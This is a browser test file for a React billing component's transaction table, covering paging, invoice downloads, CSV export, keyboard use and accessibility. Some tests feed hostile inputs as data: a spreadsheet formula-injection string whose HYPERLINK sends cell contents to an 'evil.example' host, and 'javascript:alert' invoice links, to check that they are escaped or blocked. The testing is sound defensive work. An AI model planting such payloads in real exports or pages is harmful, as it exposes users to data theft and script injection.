import '../../src/components/TransactionHistory/TransactionHistory.css'
import { screen, waitFor, within } from '@testing-library/react'
import { page, userEvent as realKeys } from 'vitest/browser'
import { BillingError } from '../../src/adapter/errors'
import { createMemoryAdapter } from '../../src/adapter/memory'
import {
  LEDGER_ENTRY_TYPES,
  type BillingAdapter,
  type InvoiceLinks,
  type ListLedgerInput,
} from '../../src/adapter/types'
import { TransactionHistory, toLedgerFilter } from '../../src/components/TransactionHistory'
import { axeViolations, NOW, renderBilling } from '../support/render'

/** The visible copy of a message, whether or not the live region has read it out yet. */
function findShown(text: string) {
  return waitFor(() => {
    const shown = screen.getAllByText(text).find((node) => !node.closest('[data-slot="announcer"]'))
    if (!shown) throw new Error(`"${text}" is announced but not shown`)
    return shown
  })
}

function memoryAt(options: Parameters<typeof createMemoryAdapter>[0] = {}) {
  return createMemoryAdapter({ seed: 1, now: () => NOW, locale: 'en', ...options })
}

/** The memory adapter with every listLedger input recorded. */
function recording(memory = memoryAt()) {
  const inputs: ListLedgerInput[] = []
  const adapter: BillingAdapter = {
    ...memory,
    listLedger: (input) => {
      inputs.push(structuredClone(input))
      return memory.listLedger(input)
    },
  }
  return { memory, adapter, inputs }
}

const table = () => screen.getByRole('table', { name: 'Transactions' })
const viewport = () => screen.getByRole('region', { name: 'Transactions, scrollable list' })
const bodyRows = () =>
  within(table())
    .getAllByRole('row')
    .filter((row) => row.getAttribute('aria-rowindex') !== '1')
const rowIndexes = () => bodyRows().map((row) => Number(row.getAttribute('aria-rowindex')))

async function scrollToEnd() {
  const element = viewport()
  element.scrollTop = element.scrollHeight
  element.dispatchEvent(new Event('scroll'))
  await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))
}

/** Presses Tab until `target` has focus, the way a keyboard user would move; fails if it never does. */
async function tabTo(user: ReturnType<typeof renderBilling>['user'], target: () => HTMLElement, max = 30) {
  for (let i = 0; i < max; i++) {
    if (document.activeElement === target()) return
    await user.tab()
  }
  expect(document.activeElement).toBe(target())
}

/** What the panel's live regions last read out. */
function announced() {
  return [...document.querySelectorAll('[data-slot="announcer"] [aria-live]')]
    .map((region) => region.textContent)
    .join(' ')
}

/** Lets the adapter skip the provider's boundary checks, to prove the component checks URLs too. */
const GUARDED = Symbol.for('react-billing-panel.guarded')

beforeEach(async () => {
  await page.viewport(1280, 900)
  vi.useFakeTimers({ toFake: ['Date'] })
  vi.setSystemTime(NOW)
})
afterEach(() => {
  vi.useRealTimers()
  vi.restoreAllMocks()
})

describe('TransactionHistory in Chromium: scale', () => {
  it('loads the next page by cursor when scrolled near the end, keeping the DOM small', async () => {
    const { adapter, inputs, memory } = recording(memoryAt({ ledgerSize: 2000 }))
    renderBilling(<TransactionHistory height={400} />, { adapter })
    await screen.findByRole('table', { name: 'Transactions' })
    expect(table()).toHaveAttribute('aria-rowcount', '2001')
    expect(inputs).toHaveLength(1)
    const first = await memory.listLedger({ limit: 50 })

    await scrollToEnd()
    await waitFor(() => expect(inputs).toHaveLength(2))
    expect(inputs[1]).toEqual({
      filter: { types: undefined, from: null, to: null },
      cursor: first.nextCursor,
      limit: 50,
    })
    await waitFor(() => expect(screen.getByText('Showing 100 of 2,000')).toBeInTheDocument())

    for (let pageCount = 3; pageCount <= 5; pageCount++) {
      await scrollToEnd()
      await waitFor(() => expect(inputs).toHaveLength(pageCount))
    }
    await waitFor(() => expect(screen.getByText('Showing 250 of 2,000')).toBeInTheDocument())
    // Only what is in view (plus a few) is in the DOM, and each row knows its place.
    expect(bodyRows().length).toBeLessThanOrEqual(30)
    const indexes = rowIndexes()
    expect(Math.max(...indexes)).toBeGreaterThan(200)
    expect(indexes).toEqual(indexes.toSorted((a, b) => a - b))
    expect(new Set(bodyRows().map((row) => row.dataset.index)).size).toBe(bodyRows().length)
  })

  it('keeps the rows already shown when a page fails mid-way, and retries on demand', async () => {
    const { adapter, memory, inputs } = recording()
    const { user } = renderBilling(<TransactionHistory height={400} />, { adapter })
    await screen.findByRole('table', { name: 'Transactions' })
    const firstDescription = within(bodyRows()[0]).getAllByRole('cell')[1].textContent
    memory.setFaults({ listLedger: { code: 'network', mode: 'once' } })

    await scrollToEnd()
    const notice = await screen.findByText("We couldn't load more transactions. The ones above are still here.")
    const alert = notice.closest<HTMLElement>('[data-slot="transactions-load-more-error"]')
    if (!alert) throw new Error('no load-more error notice')
    expect(screen.getByText('Showing 50 of 360')).toBeInTheDocument()
    // No retry loop behind the user's back.
    await new Promise((resolve) => setTimeout(resolve, 200))
    expect(inputs).toHaveLength(2)

    viewport().scrollTop = 0
    await waitFor(() => expect(within(bodyRows()[0]).getAllByRole('cell')[1]).toHaveTextContent(firstDescription ?? ''))

    await user.click(within(alert).getByRole('button', { name: 'Try again' }))
    await waitFor(() => expect(screen.getByText('Showing 100 of 360')).toBeInTheDocument())
    expect(screen.queryByText(/couldn't load more/)).not.toBeInTheDocument()
    expect(inputs[2].cursor).toBe(inputs[1].cursor)
  })

  it('keeps a focused row action rendered while the list scrolls away from it', async () => {
    const { user } = renderBilling(<TransactionHistory height={300} />)
    await screen.findByRole('table', { name: 'Transactions' })
    const download = screen.getByRole('button', { name: 'Download invoice INV-2026-0046' })
    await tabTo(user, () => download)
    viewport().scrollTop = 2000
    await waitFor(() => expect(Math.min(...rowIndexes().filter((i) => i > 4))).toBeGreaterThan(30))
    expect(download).toBeInTheDocument()
    expect(download).toHaveFocus()
    // Scrolling back finds it where it was, still focused.
    viewport().scrollTop = 0
    await waitFor(() => expect(Math.min(...rowIndexes())).toBe(2))
    expect(download).toHaveFocus()
  })
})

describe('TransactionHistory in Chromium: invoices', () => {
  it('downloads an invoice with a link asked for at each click', async () => {
    const open = vi.spyOn(window, 'open').mockImplementation(() => ({ opener: window }) as unknown as Window)
    const { user, memory } = renderBilling(<TransactionHistory />)
    await screen.findByRole('table', { name: 'Transactions' })
    const download = screen.getByRole('button', { name: 'Download invoice INV-2026-0046' })
    await user.click(download)
    await waitFor(() => expect(open).toHaveBeenCalledTimes(1))
    expect(open.mock.calls[0][0]).toMatch(/^https:\/\/billing\.example\.com\/invoices\/in_\w+\.pdf\?sig=\w+&exp=\d+$/)
    expect(open.mock.calls[0][1]).toBe('_blank')
    await waitFor(() => expect(download).not.toHaveAttribute('data-pending'))
    await user.click(download)
    await waitFor(() => expect(open).toHaveBeenCalledTimes(2))
    // Signed links expire: never cached.
    expect(memory.calls.getInvoiceLinks).toBe(2)
    expect(document.querySelector('[data-slot="invoice-notice"]')).toBeNull()
  })

  it('a double click asks once and opens once', async () => {
    const open = vi.spyOn(window, 'open').mockImplementation(() => ({}) as Window)
    const memory = memoryAt({ latency: 80 })
    const { user } = renderBilling(<TransactionHistory />, { adapter: memory })
    await screen.findByRole('table', { name: 'Transactions' })
    await user.dblClick(screen.getByRole('button', { name: 'View invoice INV-2026-0046' }))
    await waitFor(() => expect(open).toHaveBeenCalledTimes(1))
    await new Promise((resolve) => setTimeout(resolve, 150))
    expect(open).toHaveBeenCalledTimes(1)
    expect(memory.calls.getInvoiceLinks).toBe(1)
  })

  it('saves a blob: invoice under its number instead of opening a tab', async () => {
    const open = vi.spyOn(window, 'open')
    const clicks: Array<{ href: string; download: string }> = []
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
      clicks.push({ href: this.href, download: this.download })
    })
    const memory = memoryAt()
    const adapter: BillingAdapter = {
      ...memory,
      getInvoiceLinks: async (): Promise<InvoiceLinks> => ({
        viewUrl: null,
        downloadUrl: 'blob:http://127.0.0.1/7c1e0b',
      }),
    }
    const { user } = renderBilling(<TransactionHistory />, { adapter })
    await screen.findByRole('table', { name: 'Transactions' })
    await user.click(screen.getByRole('button', { name: 'Download invoice INV-2026-0046' }))
    await waitFor(() =>
      expect(clicks).toEqual([{ href: 'blob:http://127.0.0.1/7c1e0b', download: 'INV-2026-0046.pdf' }]),
    )
    expect(open).not.toHaveBeenCalled()
  })

  it('never opens a javascript: link, even from an adapter that skipped the boundary checks', async () => {
    const open = vi.spyOn(window, 'open')
    const memory = memoryAt()
    const adapter = {
      ...memory,
      [GUARDED]: true,
      getInvoiceLinks: async (): Promise<InvoiceLinks> => ({
        viewUrl: 'javascript:alert(1)',
        downloadUrl: 'javascript:alert(2)',
      }),
    } as BillingAdapter
    const { user } = renderBilling(<TransactionHistory />, { adapter })
    await screen.findByRole('table', { name: 'Transactions' })
    await user.click(screen.getByRole('button', { name: 'View invoice INV-2026-0046' }))
    const message = "Invoice INV-2026-0046 came with a link that isn't safe to open, so it was not opened."
    expect(await screen.findByText(message)).toBeInTheDocument()
    await waitFor(() => expect(announced()).toContain(message))
    await user.click(screen.getByRole('button', { name: 'Download invoice INV-2026-0046' }))
    await screen.findByText(message)
    expect(open).not.toHaveBeenCalled()
  })

  it('says so when the boundary dropped an unsafe link, or the adapter has none', async () => {
    const open = vi.spyOn(window, 'open')
    const memory = memoryAt()
    const adapter: BillingAdapter = {
      ...memory,
      getInvoiceLinks: async () => ({ viewUrl: 'https://billing.example.com/in', downloadUrl: 'javascript:alert(1)' }),
    }
    const { user } = renderBilling(<TransactionHistory />, { adapter })
    await screen.findByRole('table', { name: 'Transactions' })
    await user.click(screen.getByRole('button', { name: 'Download invoice INV-2026-0046' }))
    expect(await screen.findByText('Invoice INV-2026-0046 is not available to download right now.')).toBeInTheDocument()
    expect(open).not.toHaveBeenCalled()
  })

  it('explains a failed request for the links, and the next try works', async () => {
    const open = vi.spyOn(window, 'open').mockImplementation(() => ({}) as Window)
    const { user } = renderBilling(<TransactionHistory />, {
      memory: { faults: { getInvoiceLinks: { code: 'timeout', mode: 'once' } } },
    })
    await screen.findByRole('table', { name: 'Transactions' })
    const view = screen.getByRole('button', { name: 'View invoice INV-2026-0046' })
    await user.click(view)
    const notice = await screen.findByText(
      /Couldn't open invoice INV-2026-0046\. The billing service took too long to answer/,
    )
    await waitFor(() => expect(announced()).toContain("Couldn't open invoice INV-2026-0046."))
    expect(open).not.toHaveBeenCalled()
    expect(view).toHaveFocus()
    await user.click(view)
    await waitFor(() => expect(open).toHaveBeenCalledTimes(1))
    expect(notice).not.toBeInTheDocument()
  })

  it('offers the link by hand when the browser blocks the new tab', async () => {
    vi.spyOn(window, 'open').mockImplementation(() => null)
    const { user } = renderBilling(<TransactionHistory />)
    await screen.findByRole('table', { name: 'Transactions' })
    await user.click(screen.getByRole('button', { name: 'View invoice INV-2026-0046' }))
    expect(await screen.findByText('Your browser blocked the new tab for invoice INV-2026-0046.')).toBeInTheDocument()
    const link = screen.getByRole('link', { name: 'Open invoice INV-2026-0046' })
    expect(link.getAttribute('href')).toMatch(/^https:\/\/billing\.example\.com\/invoices\/in_\w+$/)
    expect(link).toHaveAttribute('rel', 'noopener noreferrer')
    await user.click(screen.getByRole('button', { name: 'Dismiss' }))
    expect(screen.queryByRole('link', { name: /Open invoice/ })).not.toBeInTheDocument()
  })
})

/** Captures the CSV a download would save, instead of saving it. */
function captureDownloads() {
  const blobs: Blob[] = []
  const saved: Array<{ href: string; download: string }> = []
  vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
    blobs.push(blob as Blob)
    return `blob:http://127.0.0.1/csv-${blobs.length}`
  })
  vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => {})
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
    saved.push({ href: this.href, download: this.download })
  })
  return { blobs, saved }
}

describe('TransactionHistory in Chromium: CSV export', () => {
  it('exports every entry of the current filter, paging through the adapter', async () => {
    const downloads = captureDownloads()
    const { adapter, inputs, memory } = recording(memoryAt({ ledgerSize: 1200 }))
    const expected = (await memory.listLedger({ filter: { types: ['usage'] }, limit: 1 })).totalCount ?? 0
    const { user } = renderBilling(
      <TransactionHistory defaultFilter={{ types: ['usage'], range: { preset: 'all' } }} />,
      { adapter },
    )
    await screen.findByRole('table', { name: 'Transactions' })
    await user.click(screen.getByRole('button', { name: 'Export CSV' }))
    const done = `Exported ${expected.toLocaleString('en')} transactions to transactions-2026-11-26.csv.`
    expect(await screen.findByText(done)).toBeInTheDocument()
    await waitFor(() => expect(announced()).toContain(done))

    expect(downloads.saved).toEqual([{ href: 'blob:http://127.0.0.1/csv-1', download: 'transactions-2026-11-26.csv' }])
    const blob = downloads.blobs[0]
    expect(blob.type).toBe('text/csv;charset=utf-8')
    const bytes = new Uint8Array(await blob.arrayBuffer())
    // UTF-8 byte-order mark, so spreadsheets keep accents.
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const lines = new TextDecoder().decode(bytes.slice(3)).split('\r\n')
    expect(lines[0]).toBe('Date,Description,Type,Status,Amount,Currency,Balance after,Invoice,Transaction ID')
    expect(lines.at(-1)).toBe('')
    expect(lines).toHaveLength(expected + 2)
    expect(lines.slice(1, -1).every((line) => /^\S+,("[^"]*"|[^,]*),Usage,/.test(line))).toBe(true)
    expect(lines[1]).toMatch(
      /^2026-11-\d\dT[\d:.]+Z,SMS — \d+ messages,Usage,Succeeded,-\d+\.\d\d,USD,\d+\.\d\d,,txn_\w+$/,
    )
    // The export asked the adapter with the same filter, in big pages.
    const exportCalls = inputs.filter((input) => input.limit === 200)
    expect(exportCalls.length).toBe(Math.ceil(expected / 200))
    expect(exportCalls.every((input) => input.filter?.types?.join() === 'usage')).toBe(true)
  })

  it('escapes cells a spreadsheet would run as formulas', async () => {
    const downloads = captureDownloads()
    const memory = memoryAt()
    const adapter: BillingAdapter = {
      ...memory,
      listLedger: async () => ({
        entries: [
          {
            id: 'txn_evil',
            createdAt: '2026-11-20T10:00:00.000Z',
            type: 'adjustment',
            status: 'succeeded',
            description: '=HYPERLINK("http://evil.example/?x="&A1,"Refund")',
            amount: { amount: -500, currency: 'USD' },
            invoice: { id: 'in_1', number: '@SUM(1+1)' },
          },
          {
            id: 'txn_plus',
            createdAt: '2026-11-19T10:00:00.000Z',
            type: 'adjustment',
            status: 'succeeded',
            description: '+1-1, -2',
            amount: { amount: 500, currency: 'USD' },
          },
        ],
        nextCursor: null,
        totalCount: 2,
      }),
    }
    const { user } = renderBilling(<TransactionHistory />, { adapter })
    await screen.findByRole('table', { name: 'Transactions' })
    await user.click(screen.getByRole('button', { name: 'Export CSV' }))
    await findShown('Exported 2 transactions to transactions-2026-11-26.csv.')
    const text = (await downloads.blobs[0].text()).replace(/^\uFEFF/, '')
    const [, evil, plus] = text.split('\r\n')
    expect(evil).toBe(
      `2026-11-20T10:00:00.000Z,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Refund"")",Adjustment,Succeeded,-5.00,USD,,'@SUM(1+1),txn_evil`,
    )
    expect(plus).toBe(`2026-11-19T10:00:00.000Z,"'+1-1, -2",Adjustment,Succeeded,5.00,USD,,,txn_plus`)
  })

  it('shows progress, and Cancel stops the export without downloading anything', async () => {
    const downloads = captureDownloads()
    const memory = memoryAt({ ledgerSize: 5000, latency: 60 })
    const { user } = renderBilling(<TransactionHistory />, { adapter: memory })
    await screen.findByRole('table', { name: 'Transactions' })
    const exportButton = screen.getByRole('button', { name: 'Export CSV' })
    await user.click(exportButton)
    expect(await screen.findByText('Exported 400 of 5,000')).toBeInTheDocument()
    expect(screen.getByRole('progressbar', { name: 'CSV export progress' })).toHaveAttribute('max', '5000')
    // The button stays (pending) so focus is not lost, and a second click starts nothing.
    expect(exportButton).toHaveAttribute('aria-disabled', 'true')
    await user.click(exportButton)
    await user.click(screen.getByRole('button', { name: 'Cancel export' }))
    expect(await findShown('Export canceled. Nothing was downloaded.')).toBeInTheDocument()
    await waitFor(() => expect(exportButton).toHaveFocus())
    const callsAtCancel = memory.calls.listLedger
    await new Promise((resolve) => setTimeout(resolve, 300))
    expect(memory.calls.listLedger).toBeLessThanOrEqual(callsAtCancel + 1)
    expect(downloads.blobs).toHaveLength(0)
    expect(downloads.saved).toHaveLength(0)
    expect(screen.queryByRole('progressbar')).not.toBeInTheDocument()
  })

  it('says why an export stopped, downloads nothing, and can try again', async () => {
    const downloads = captureDownloads()
    const memory = memoryAt({ ledgerSize: 600 })
    const { user } = renderBilling(<TransactionHistory />, { adapter: memory })
    await screen.findByRole('table', { name: 'Transactions' })
    memory.setFaults({ listLedger: { code: 'unavailable', mode: 'once' } })
    await user.click(screen.getByRole('button', { name: 'Export CSV' }))
    const message =
      'The export stopped: The billing service is unavailable right now. Try again in a few minutes. Nothing was downloaded.'
    expect(await screen.findByText(message)).toBeInTheDocument()
    expect(downloads.blobs).toHaveLength(0)
    await user.click(screen.getByRole('button', { name: 'Try the export again' }))
    expect(await findShown('Exported 600 transactions to transactions-2026-11-26.csv.')).toBeInTheDocument()
    expect(downloads.blobs).toHaveLength(1)
  })
})

describe('TransactionHistory in Chromium: keyboard', () => {
  it('filters by type with the keyboard alone', async () => {
    const { adapter, inputs } = recording()
    const { user } = renderBilling(<TransactionHistory />, { adapter })
    await screen.findByRole('table', { name: 'Transactions' })
    const trigger = screen.getByRole('button', { name: 'Type All types' })
    await tabTo(user, () => trigger)
    await user.keyboard('{Enter}')
    const menu = await screen.findByRole('menu', { name: 'Type' })
    await waitFor(() =>
      expect(within(menu).getByRole('menuitemcheckbox', { name: 'Subscription charge' })).toHaveFocus(),
    )
    await user.keyboard('{ArrowDown}{ArrowDown}{ArrowDown}')
    expect(within(menu).getByRole('menuitemcheckbox', { name: 'Usage' })).toHaveFocus()
    await user.keyboard(' ')
    expect(within(menu).getByRole('menuitemcheckbox', { name: 'Usage' })).toHaveAttribute('aria-checked', 'true')
    await user.keyboard('{Escape}')
    await waitFor(() => expect(screen.queryByRole('menu')).not.toBeInTheDocument())
    expect(trigger).toHaveFocus()
    expect(trigger).toHaveAccessibleName('Type Usage')
    await waitFor(() => expect(inputs.at(-1)?.filter?.types).toEqual(['usage']))
  })

  it('closes the type menu when Tab leaves it, and picks a date range with the keyboard', async () => {
    const { adapter, inputs } = recording()
    const { user } = renderBilling(<TransactionHistory />, { adapter })
    await screen.findByRole('table', { name: 'Transactions' })
    const trigger = screen.getByRole('button', { name: 'Type All types' })
    await tabTo(user, () => trigger)
    await user.keyboard('{ArrowDown}')
    const menu = await screen.findByRole('menu', { name: 'Type' })
    await waitFor(() =>
      expect(within(menu).getByRole('menuitemcheckbox', { name: 'Subscription charge' })).toHaveFocus(),
    )
    await user.keyboard('{Enter}')
    // Ticking keeps the menu open, with focus where it was.
    expect(within(menu).getByRole('menuitemcheckbox', { name: 'Subscription charge' })).toHaveAttribute(
      'aria-checked',
      'true',
    )
    expect(within(menu).getByRole('menuitemcheckbox', { name: 'Subscription charge' })).toHaveFocus()
    await user.keyboard('{End}')
    expect(within(menu).getByRole('menuitem', { name: 'All types' })).toHaveFocus()
    await user.tab()
    await waitFor(() => expect(screen.queryByRole('menu')).not.toBeInTheDocument())
    const range = screen.getByRole('combobox', { name: 'Date range' })
    expect(range).toHaveFocus()
    await realKeys.keyboard('{ArrowDown}')
    expect(range).toHaveDisplayValue('Last 30 days')
    await waitFor(() => expect(inputs.at(-1)?.filter?.from).not.toBeNull())
    expect(inputs.at(-1)?.filter).toEqual(
      toLedgerFilter({ types: [LEDGER_ENTRY_TYPES[0]], range: { preset: 'last30' } }, { timeZone: 'UTC', now: NOW }),
    )
  })

  it('scrolls the list with the keyboard and reaches row actions with Tab', async () => {
    const open = vi.spyOn(window, 'open').mockImplementation(() => ({}) as Window)
    const { adapter, inputs } = recording()
    const { user } = renderBilling(<TransactionHistory height={400} />, { adapter })
    await screen.findByRole('table', { name: 'Transactions' })
    await tabTo(user, viewport)
    // Real key presses (not synthetic events), so the browser itself scrolls the focused list.
    await realKeys.keyboard('{PageDown}')
    await waitFor(() => expect(viewport().scrollTop).toBeGreaterThan(200))
    await realKeys.keyboard('{End}')
    // End reaches the last loaded row, which asks for the next page by cursor. How many pages
    // arrive depends on where the browser's scroll stands when each lands, so the test waits for
    // the state: a page asked for by cursor, its rows counted, and nothing loading any more.
    // On a loaded machine Chromium may drop an End pressed while PageDown's scroll still settles:
    // press it again only while the list is visibly short of its end and nothing was asked for.
    await waitFor(
      async () => {
        const list = viewport()
        const short = list.scrollTop + list.clientHeight < list.scrollHeight - 2
        if (short && !inputs.some((input) => input.cursor)) await realKeys.keyboard('{End}')
        expect(inputs.some((input) => input.cursor)).toBe(true)
      },
      { timeout: 15_000, interval: 500 },
    )
    await waitFor(
      () => {
        expect(screen.queryByText('Loading more transactions…')).not.toBeInTheDocument()
        const count = document.querySelector('[data-slot="transactions-footer"] .bp-tx-count')?.textContent ?? ''
        const shown = /^Showing (\d+) of 360$|^(360) transactions$/.exec(count)
        expect(Number(shown?.[1] ?? shown?.[2])).toBeGreaterThan(50)
      },
      { timeout: 15_000 },
    )
    // Focus stays on the list while pages arrive, so Home is the list's to handle.
    expect(document.activeElement).toBe(viewport())
    await realKeys.keyboard('{Home}')
    // As with End: on a loaded machine a Home pressed while a scroll settles may be dropped;
    // press it again only while the list is visibly away from its top.
    await waitFor(
      async () => {
        if (viewport().scrollTop > 0) await realKeys.keyboard('{Home}')
        expect(viewport().scrollTop).toBe(0)
      },
      { timeout: 15_000, interval: 500 },
    )
    // The next Tab stop after the list is the first row action in it.
    await realKeys.tab()
    const firstAction = document.activeElement as HTMLElement
    expect(firstAction.getAttribute('aria-label')).toMatch(/^View invoice INV-\d{4}-\d{4}$/)
    expect(firstAction.closest('[role="row"]')).toBe(
      bodyRows().find((row) => within(row).queryByRole('button', { name: /^View invoice/ })),
    )
    await realKeys.keyboard('{Enter}')
    await waitFor(() => expect(open).toHaveBeenCalledTimes(1))
  })
})

describe('TransactionHistory in Chromium: layout and accessibility', () => {
  it('is axe-clean with rows, with the type menu open, and in its empty and error states', async () => {
    const { user, unmount } = renderBilling(<TransactionHistory />)
    await screen.findByRole('table', { name: 'Transactions' })
    expect(await axeViolations(document.body)).toEqual([])
    await user.click(screen.getByRole('button', { name: 'Type All types' }))
    await screen.findByRole('menu')
    // The menu opens in place, inside the section, so it is within the page's landmarks too.
    expect(await axeViolations(document.body)).toEqual([])
    await user.keyboard('{Escape}')
    unmount()

    const empty = renderBilling(<TransactionHistory />, { memory: { empty: true } })
    await screen.findByText('No transactions yet')
    expect(await axeViolations(document.body)).toEqual([])
    empty.unmount()

    const noResults = renderBilling(
      <TransactionHistory defaultFilter={{ types: ['adjustment'], range: { preset: 'custom', from: '2026-11-01' } }} />,
    )
    await screen.findByText('No results for these filters')
    expect(await axeViolations(document.body)).toEqual([])
    noResults.unmount()

    renderBilling(<TransactionHistory />, { memory: { faults: { listLedger: 'unavailable' } } })
    await screen.findByText("We couldn't load your transactions.")
    expect(await axeViolations(document.body)).toEqual([])
  })

  it('stacks rows as cards at 320 px with nothing cut off sideways, still as a table', async () => {
    await page.viewport(320, 800)
    renderBilling(
      <div style={{ padding: 8 }}>
        <TransactionHistory />
      </div>,
      { locale: 'es' },
    )
    const list = await screen.findByRole('table', { name: 'Transacciones' })
    await waitFor(() => expect(list).toHaveAttribute('data-layout', 'cards'))
    expect(document.documentElement.scrollWidth).toBeLessThanOrEqual(320)
    const region = screen.getByRole('region', { name: 'Transacciones, lista desplazable' })
    expect(region.scrollWidth).toBeLessThanOrEqual(region.clientWidth)
    const row = within(list).getAllByRole('row')[1]
    expect(within(row).getAllByRole('cell')).toHaveLength(7)
    const amount = within(row).getByText('+25,00 US$')
    const rowBox = row.getBoundingClientRect()
    const amountBox = amount.getBoundingClientRect()
    expect(amountBox.right).toBeLessThanOrEqual(rowBox.right)
    expect(amountBox.left).toBeGreaterThan(rowBox.left + rowBox.width / 2)
    expect(await axeViolations(document.body)).toEqual([])
  })

  it('does not call the adapter for an invoice until asked, nor export until asked', async () => {
    const memory = memoryAt()
    const listLedger = vi.fn(memory.listLedger)
    renderBilling(<TransactionHistory />, { adapter: { ...memory, listLedger } })
    await screen.findByRole('table', { name: 'Transactions' })
    await new Promise((resolve) => setTimeout(resolve, 100))
    expect(memory.calls.getInvoiceLinks).toBe(0)
    expect(listLedger).toHaveBeenCalledTimes(1)
    expect(listLedger.mock.calls[0][0].limit).toBe(50)
  })
})

// A typed error from the adapter must be what the UI explains (not the raw message).
it('never shows raw server text for an invoice failure', async () => {
  await page.viewport(1280, 900)
  const memory = memoryAt()
  const adapter: BillingAdapter = {
    ...memory,
    getInvoiceLinks: async () => {
      throw new BillingError('forbidden', { message: 'SQLSTATE 42501 role "billing" denied' })
    },
  }
  const { user } = renderBilling(<TransactionHistory />, { adapter })
  await screen.findByRole('table', { name: 'Transactions' })
  await user.click(screen.getByRole('button', { name: 'Download invoice INV-2026-0046' }))
  expect(await screen.findByText(/You don't have permission to do this/)).toBeInTheDocument()
  expect(screen.queryByText(/SQLSTATE/)).not.toBeInTheDocument()
})
